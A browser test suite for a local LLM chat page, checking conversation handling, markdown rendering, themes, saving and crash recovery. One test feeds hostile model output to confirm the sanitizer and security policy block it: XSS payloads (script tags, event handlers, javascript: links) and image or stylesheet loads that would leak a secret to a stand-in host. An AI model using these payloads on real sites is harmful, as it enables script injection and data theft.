"""The chat page in a real browser."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from tests.support.browser import CHROMIUM, Browser, headless
from tests.support.fake_server import Server, fake_server

pytestmark = [pytest.mark.slow, pytest.mark.skipif(not CHROMIUM, reason="no Chromium is installed")]

THINKER = "{% for m in messages %}{{ m.content }}{% endfor %}<think>\n"
READY = "document.getElementById('about')?.textContent"
# Without repetitions, which the engine would draft several tokens of at once.
NUMBERS = " ".join(map(str, range(300)))
RELOADED = "performance.getEntriesByType('navigation')[0].type === 'reload'"
HOSTILE = """</think>
<script>hacked = 1</script> <b onclick="hacked = 1">raw</b> <img src=x onerror="hacked = 1">

[run](javascript:hacked=1) [go](https://host.example/) ![seen](http://host.example/?q=secret) [a]

![dot](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=)

<svg><style>@import "http://host.example/s.css";</style></svg><iframe src="http://host.example/"></iframe>

[a]: data:text/html,<script>hacked=1</script>
"""
SHAPES = """</think>
| a | b |
| --- | ---: |
| 1 | **22** |

- one
  ```python
  def f(): return "<b>"
  ```

**“提示”**在此。

~~~
plain
"""
SCRIPT = [["slowly", "</think>" + NUMBERS], ["hostile", HOSTILE], ["shapes", SHAPES]]
ANSWERS = "document.querySelectorAll('article.assistant')"
# The requests of the page, as they are sent.
RECORD = """bodies = []; real = fetch;
fetch = (url, given) => { if (given?.body) bodies.push(JSON.parse(given.body)); return real(url, given); }"""


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with headless(tmp_path_factory.mktemp("profile")) as page:
        yield page


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    models = {
        "conch": {
            "reply": "hm, </think>\n\n**Nothing.**\n```py\nx = 1\n```\n",
            "script": SCRIPT,
            "chat_template": THINKER,
            "context": 8192,
            "batch": 512,
            "step_s": 0.002,
        },
        "other": {"reply": "I am the other.", "context": 1024},
    }
    with fake_server(models=models) as started:
        yield started


@pytest.fixture
def page(browser: Browser, server: Server) -> Browser:
    """A new chat of which nothing was asked yet."""
    browser.errors.clear()
    browser.resize(1100, 800)
    browser.open(server.url + "/", READY)
    browser.ask(RECORD)
    return browser


def ask(page: Browser, question: str, number: int = 0) -> None:
    """Ask by keyboard, and wait for that answer of the conversation."""
    page.type(question)
    page.press("Enter", 13)
    answered(page, number)


def answered(page: Browser, number: int = 0) -> None:
    page.until(f"{ANSWERS}[{number}]?.querySelector('.note').textContent.includes('tokens/s')")


def press(page: Browser, text: str, within: str = "body") -> None:
    """Click the last button of that text."""
    seen = f"one.textContent === '{text}' && one.checkVisibility({{visibilityProperty: true}})"
    page.ask(f"[...document.querySelectorAll('{within} button')].filter(one => {seen}).at(-1).click()")


def click(page: Browser, selector: str) -> None:
    """A press of the mouse, as a user's own deed."""
    page.ask(f"document.querySelector('{selector}').scrollIntoView()")
    place = f"document.querySelector('{selector}').getBoundingClientRect()"
    x, y = page.ask(f"(place => [place.x + place.width / 2, place.y + place.height / 2])({place})")
    for kind in ("mousePressed", "mouseReleased"):
        page.call("Input.dispatchMouseEvent", type=kind, x=x, y=y, button="left", clickCount=1)


def messages(page: Browser, number: int) -> list[dict[str, str]]:
    """Those of a request since the page was opened."""
    sent: list[dict[str, str]] = page.ask(f"bodies[{number}].messages")
    return sent


def test_a_conversation_by_keyboard_alone(page: Browser) -> None:
    assert page.ask("document.activeElement.id") == "ask"
    ask(page, "hello")
    assert page.ask("document.querySelector('article.user .text').textContent") == "hello"
    # The reasoning is folded away.
    assert page.ask("document.querySelector('article.assistant details').open") is False
    assert page.ask("document.querySelector('article.assistant details .text').textContent") == "hm,"
    assert page.ask("document.querySelector('.markdown strong').textContent") == "Nothing."
    assert page.ask("document.querySelector('.markdown pre').textContent") == "x = 1\n"
    assert page.ask("document.querySelector('.markdown .hljs-number').textContent") == "1"
    assert page.ask("document.activeElement.id") == "ask"
    ask(page, "more", 1)
    # What was sent before is sent again as it was: the server's prefix cache has it.
    first, second = messages(page, 0), messages(page, 1)
    said = {"role": "assistant", "content": "**Nothing.**\n```py\nx = 1\n```\n"}
    assert first == [{"role": "user", "content": "hello"}]
    assert second == [*first, said, {"role": "user", "content": "more"}]
    assert page.errors == []


def test_escape_stops_the_work_and_the_conversation_goes_on(page: Browser, server: Server) -> None:
    page.type("slowly")
    page.press("Enter", 13)
    page.until("document.querySelector('.markdown')?.textContent.length > 20")
    assert page.ask("document.getElementById('stop').checkVisibility()")
    page.press("Escape", 27)
    page.until("document.querySelector('article.assistant .note').textContent === 'Stopped'")
    server.until(lambda info: info["busy_slots"] == 0)
    assert page.ask("document.getElementById('send').checkVisibility()")
    page.ask("document.getElementById('model').value = 'other'")
    ask(page, "who?", 1)
    assert page.ask(f"{ANSWERS}[1].querySelector('.markdown').textContent.trim()") == "I am the other."


def test_an_answer_under_way_belongs_to_its_own_chat(page: Browser) -> None:
    page.type("slowly 1")
    page.press("Enter", 13)
    page.until("document.querySelector('.markdown')?.textContent.length > 5")
    press(page, "New chat")
    assert page.ask(f"{ANSWERS}.length") == 0
    assert page.ask("document.activeElement.id") == "ask"
    ask(page, "hello")
    assert messages(page, 1) == [{"role": "user", "content": "hello"}]
    assert page.ask(f"{ANSWERS}.length") == 1
    assert page.ask(f"{ANSWERS}[0].querySelector('.markdown').textContent").startswith("Nothing.")
    page.ask("[...document.querySelectorAll('#chats a')].find(one => one.textContent === 'slowly 1').click()")
    page.until("document.querySelector('article.user .text')?.textContent === 'slowly 1'")
    answered(page)
    assert page.ask(f"{ANSWERS}[0].querySelector('.markdown').textContent.trim()") == NUMBERS
    assert page.errors == []


def test_two_languages_two_themes_and_a_narrow_screen(page: Browser, server: Server) -> None:
    assert page.ask("document.getElementById('send').textContent") == "Send"
    page.ask("document.getElementById('language').click()")
    assert page.ask("document.getElementById('send').textContent") == "发送"
    assert page.ask("document.documentElement.lang") == "zh-CN"
    page.open(server.url + "/", READY)
    assert page.ask("document.getElementById('fresh').textContent") == "新对话"
    page.ask("document.getElementById('language').click()")
    background = "getComputedStyle(document.body).backgroundColor"
    light = page.ask(background)
    page.colours("dark")
    assert page.ask(background) != light
    page.ask("document.getElementById('theme').click()")
    assert page.ask(background) == light
    page.resize(340, 640, mobile=True)
    assert page.ask("document.documentElement.scrollWidth <= 340") is True
    assert page.ask("document.getElementById('fresh').checkVisibility()") is False
    page.ask("document.getElementById('menu').click()")
    assert page.ask("document.getElementById('fresh').checkVisibility()") is True
    page.colours("")
    # Everything that can be used has a name for those who cannot see it.
    unnamed = page.ask(
        "[...document.querySelectorAll('button, textarea, input, select')].filter(e => !e.textContent.trim() "
        "&& !e.labels?.length && !e.ariaLabel).length"
    )
    assert unnamed == 0


def test_an_error_is_shown_and_the_question_can_be_mended(page: Browser) -> None:
    page.type("x" * 9000)
    page.press("Enter", 13)
    page.until("document.querySelector('.note.error') !== null")
    assert "8192" in page.ask("document.querySelector('.note.error').textContent")
    press(page, "Edit")
    page.ask("document.querySelector('article.user textarea').value = ''")
    page.type("hello")
    press(page, "Ask again")
    answered(page)
    assert messages(page, 1) == [{"role": "user", "content": "hello"}]
    assert page.ask("document.querySelectorAll('article.user').length") == 1


def test_nothing_that_a_model_writes_runs_or_is_fetched(page: Browser) -> None:
    ask(page, "hostile")
    assert page.ask("typeof hacked") == "undefined"
    box = "document.querySelector('.markdown')"
    assert page.ask(f"{box}.querySelector('script, b, svg, style, iframe, [onclick], [onerror]')") is None
    assert '<b onclick="hacked = 1">raw</b>' in page.ask(f"{box}.textContent")
    links = page.ask(
        f"[...{box}.querySelectorAll('a')].map(one => [one.textContent, one.href, one.rel, one.target])"
    )
    safe = ["noopener noreferrer", "_blank"]
    assert ["go", "https://host.example/", *safe] in links
    # A picture of another host is a link: loading it would tell that host what its address says.
    assert ["seen", "http://host.example/?q=secret", *safe] in links
    assert not [link for link in links if link[1].startswith(("javascript:", "data:"))]
    assert page.ask(f"[...{box}.querySelectorAll('img')].map(one => one.alt)") == ["dot"]
    hosts = page.ask(
        "[...new Set(performance.getEntriesByType('resource').map(one => new URL(one.name).host))]"
    )
    assert hosts == [page.ask("location.host")]
    assert page.errors == []
    # Where the page itself were at fault, the browser still refuses.
    assert (
        page.ask("try { document.body.innerHTML = '<b>'; 'taken' } catch (error) { error.name }")
        == "TypeError"
    )
    page.ask("document.addEventListener('securitypolicyviolation', event => { refused = event.blockedURI; })")
    page.ask("void (new Image().src = 'http://127.0.0.1:9/?q=secret')")
    page.until("globalThis.refused?.startsWith('http://127.0.0.1:9')")


def test_markdown_of_every_shape(page: Browser) -> None:
    ask(page, "shapes")
    box = "document.querySelector('.markdown')"
    assert page.ask(f"{box}.querySelector('td[align=right] strong').textContent") == "22"
    assert page.ask(f"{box}.querySelector('li .code pre').textContent") == 'def f(): return "<b>"\n'
    assert page.ask(f"{box}.querySelector('li .hljs-keyword').textContent") == "def"
    assert page.ask(f"{box}.querySelector(':scope > p strong').textContent") == "“提示”"
    # The last fence has no end.
    assert page.ask(f"{box}.lastElementChild.querySelector('pre').textContent") == "plain\n"
    assert page.errors == []


def test_an_answer_that_grows_is_what_it_is_at_the_end(page: Browser) -> None:
    """Painted in any pieces, the same elements come out as painted at once."""
    texts = [
        SHAPES.removeprefix("</think>\n") + "~~~\n\n1. a\n\n2. b\n\n> q\n> r\n\n# end\n",
        "a\n===\n\n```py\nx = '''\n```\nb\n\n\n    code\n\n- x\n\n  y\n- z\r\n\r\n| a |\n| - |\n| b |\n\nend",
        "```python\n" + "def f(x):\n    return x  # twice\n" * 60 + "```\nafter\n",
        ">" * 60,
        "```" + "`py\nx\n" * 3,
    ]
    differing = page.ask(
        "import(document.baseURI.replace(/#.*/, '') + 'web/markdown.js').then(({Markdown}) => {"
        f"const differing = []; for (const [i, text] of {json.dumps(texts)}.entries()) {{"
        "const [one, two] = [0, 0].map(() => document.createElement('div')); const grown = new Markdown(one);"
        "const step = Math.ceil(text.length / 150);"
        "for (let end = step; end < text.length; end += step) grown.paint(text.slice(0, end), false);"
        # Colours of a block that grows may be behind; its text and all other elements may not.
        "const shape = () => one.textContent + [...one.querySelectorAll(':not(code *)')].map(e => e.tagName);"
        "grown.paint(text, false); const before = shape(); grown.paint(text, true);"
        "new Markdown(two).paint(text, true);"
        "const same = one.innerHTML === two.innerHTML && before === shape();"
        "if (!same) differing.push([i, before, shape()]); }"
        "return differing; })"
    )
    assert differing == []


def test_what_is_nested_too_deep_is_shown_as_it_is(page: Browser) -> None:
    shown = page.ask(
        "import(document.baseURI.replace(/#.*/, '') + 'web/markdown.js').then(({Markdown}) => {"
        "const box = document.createElement('div'); new Markdown(box).paint('>'.repeat(20000), true);"
        "return box.innerText; })"
    )
    assert shown == ">" * 20000


def test_questions_are_changed_and_answers_made_anew(page: Browser, server: Server) -> None:
    ask(page, "first")
    ask(page, "second", 1)
    page.ask("document.getElementById('model').value = 'other'")
    press(page, "Regenerate")
    page.until(f"{ANSWERS}[1].querySelector('.tools').innerText.includes('2/2')")
    answered(page, 1)
    assert [message["content"] for message in messages(page, 2)][::2] == ["first", "second"]
    text = f"{ANSWERS}[1].querySelector('.markdown').textContent.trim()"
    assert page.ask(text) == "I am the other."
    press(page, "<")
    assert page.ask(text).startswith("Nothing.")
    page.until("document.querySelectorAll('#chats a')[0]?.textContent === 'first'")
    # It is all there after a reload, with the answer that was chosen; and it goes on from that one.
    page.call("Page.reload")
    page.until(f"{RELOADED} && {READY} && {ANSWERS}.length === 2")
    page.ask(RECORD)
    assert page.ask(text).startswith("Nothing.")
    assert page.ask(f"{ANSWERS}[1].querySelector('.tools').innerText").startswith("<\n1/2")
    ask(page, "third", 2)
    assert messages(page, 0)[3]["content"].startswith("**Nothing.**")
    press(page, "Edit", "section:nth-child(2)")
    page.ask("document.querySelector('section:nth-child(2) textarea').select()")
    page.type("another")
    page.press("Enter", 13)
    page.until(f"{ANSWERS}.length === 2")
    answered(page, 1)
    assert [message["content"] for message in messages(page, 1)][::2] == ["first", "another"]


def test_conversations_are_renamed_saved_and_deleted(page: Browser, tmp_path: Path) -> None:
    page.ask("document.querySelector('form details').open = true; document.getElementById('system').focus()")
    page.type("Be brief.")
    page.ask("document.getElementById('ask').focus()")
    ask(page, "to be kept")
    assert messages(page, 0)[0] == {"role": "system", "content": "Be brief."}
    page.ask("prompt = () => '新名字'; confirm = () => true")
    press(page, "Rename")
    assert page.ask("document.querySelector('#chats [aria-current]').textContent") == "新名字"
    page.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(tmp_path))
    press(page, "Save as JSON")
    page.until("true")
    saved: dict[str, Any] = {}
    for _ in range(100):
        files = list(tmp_path.glob("chat-*.json"))
        if files and (content := files[0].read_text(encoding="utf-8")):
            saved = json.loads(content)
            break
        page.ask("new Promise(done => setTimeout(done, 50))")
    # As `edge ui` saves one.
    assert {"models", "system", "temperature", "max_tokens", "turns"} <= set(saved)
    [turn] = saved["turns"]
    assert (turn["question"], turn["chosen"], saved["models"]) == ("to be kept", 0, ["conch"])
    assert turn["answers"][0]["reasoning"].strip() == "hm,"
    press(page, "Delete")
    page.until(f"{ANSWERS}.length === 0 && location.hash === ''")
    page.call("Page.reload")
    page.until(f"{RELOADED} && {READY}")
    assert "新名字" not in page.ask("document.getElementById('chats').textContent")


def test_enter_while_an_input_method_composes_sends_nothing(page: Browser) -> None:
    page.ask(
        "keys = []; document.addEventListener('keydown', key => keys.push([key.isComposing, key.keyCode]))"
    )
    enter = {"type": "rawKeyDown", "key": "Enter", "code": "Enter"}
    page.call("Input.imeSetComposition", text="nihao", selectionStart=5, selectionEnd=5)
    page.call("Input.dispatchKeyEvent", **enter, windowsVirtualKeyCode=13)
    page.type("你好")
    # Safari's order: the composing has ended before the key is told.
    page.call("Input.dispatchKeyEvent", **enter, windowsVirtualKeyCode=229)
    assert page.ask("keys") == [[True, 13], [False, 229]]
    assert page.ask("document.getElementById('ask').value") == "你好"
    assert page.ask("bodies.length") == 0
    page.press("Enter", 13)
    answered(page)
    assert messages(page, 0) == [{"role": "user", "content": "你好"}]


def test_code_and_answers_are_copied(page: Browser) -> None:
    def pasted() -> str:
        page.ask("document.getElementById('ask').focus(); document.getElementById('ask').value = ''")
        page.press("v", 86, commands=["paste"])
        return str(page.ask("document.getElementById('ask').value"))

    ask(page, "hello")
    click(page, ".code .copy")
    page.until("document.querySelector('.code .copy').textContent === 'Copied'")
    assert pasted() == "x = 1\n"
    press(page, "Copy", "article.assistant > .tools")
    page.until("document.querySelector('article.assistant > .tools').innerText.includes('Copied')")
    assert pasted() == "**Nothing.**\n```py\nx = 1\n```\n"
    # As on a page of another machine without TLS.
    page.ask("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    click(page, "article.user .tools button")
    page.until("document.querySelector('article.user .tools').innerText.includes('Copied')")
    assert pasted() == "hello"


def test_when_the_engine_dies_the_page_waits_and_asks_again(browser: Browser) -> None:
    script = [["slowly", NUMBERS], ["two", "Again."]]
    with fake_server(script=script, context=4096, step_s=0.002, reply="Yes.") as server:
        browser.errors.clear()
        browser.open(server.url + "/", READY)
        browser.ask(RECORD)
        ask(browser, "one")
        # Between two answers: the question waits.
        psutil.Process(server.worker()).kill()
        browser.type("two")
        browser.press("Enter", 13)
        browser.until(f"{ANSWERS}[1]?.querySelector('.note').textContent.includes('as soon as it is ready')")
        assert browser.ask("document.querySelectorAll('article.user .text')[1].textContent") == "two"
        answered(browser, 1)
        assert browser.ask(f"{ANSWERS}[1].querySelector('.markdown').textContent.trim()") == "Again."
        assert "1/" not in browser.ask(f"{ANSWERS}[1].querySelector('.tools').innerText")
        # In the middle of one: what was torn off stays, beside the whole answer.
        browser.type("slowly")
        browser.press("Enter", 13)
        browser.until(f"{ANSWERS}[2]?.querySelector('.markdown').textContent.length > 50")
        psutil.Process(server.worker()).kill()
        answered(browser, 2)
        assert browser.ask(f"{ANSWERS}[2].querySelector('.tools').innerText").startswith("<\n2/2")
        text = f"{ANSWERS}[2].querySelector('.markdown').textContent.trim()"
        assert browser.ask(text) == NUMBERS
        press(browser, "<")
        assert len(browser.ask(text)) < len(NUMBERS)
        assert browser.ask(f"{ANSWERS}[2].querySelector('.note.error').textContent") != ""


@pytest.mark.timing
def test_a_long_answer_costs_its_length_and_not_the_square(page: Browser) -> None:
    """Four times the text, painted four times as often, takes four times as long, not sixteen."""
    part = (
        "## Part\n\nSome **bold** text with `code`, 中文也有，**“强调”**的。\n\n- one\n- two\n\n"
        "| a | b |\n| - | - |\n| 1 | 2 |\n\n```python\ndef f(x):\n    # comment\n    return x + 1\n```\n\n"
    )
    block = "```python\n" + "def f(x: int) -> str:\n    return f'hello {x}'  # a comment\n\n" * 400
    for text in (part * 160, block):
        assert len(text) > 20_000
        short, long = page.ask(
            "import(document.baseURI.replace(/#.*/, '') + 'web/markdown.js').then(({Markdown}) => {"
            f"const text = {json.dumps(text)};"
            "const painted = (length) => { const grown = new Markdown(document.createElement('div'));"
            "const began = performance.now();"
            "for (let end = 25; end <= length; end += 25) grown.paint(text.slice(0, end), false);"
            "return performance.now() - began; };"
            "const least = (length) => Math.min(...[0, 1, 2].map(() => painted(length)));"
            "least(1000); return [least(5000), least(20000)]; })"
        )
        assert long < 9 * short, (short, long)
